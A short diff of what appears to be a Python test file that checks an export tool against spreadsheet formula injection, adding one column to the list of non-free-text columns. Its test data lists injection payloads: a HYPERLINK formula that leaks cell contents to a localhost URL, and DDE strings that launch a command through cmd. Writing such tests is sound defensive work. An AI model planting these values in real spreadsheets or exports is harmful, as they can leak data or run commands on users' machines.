@@ -18,7 +18,8 @@ from tests.helpers import row, write_events
 FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
             '=HYPERLINK("http://127.0.0.1/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
 # Columns whose text a user or a foreign file controls (the date columns only ever hold ISO dates).
-FREE_TEXT = [c for c in TEXT_COLUMNS if c not in ("event_date", "event_date_end", "event_type", "sub_event_type")]
+FREE_TEXT = [c for c in TEXT_COLUMNS
+             if c not in ("event_date", "event_date_end", "disorder_type", "event_type", "sub_event_type")]
 
 
 def hostile_events(tmp_path) -> pd.DataFrame:
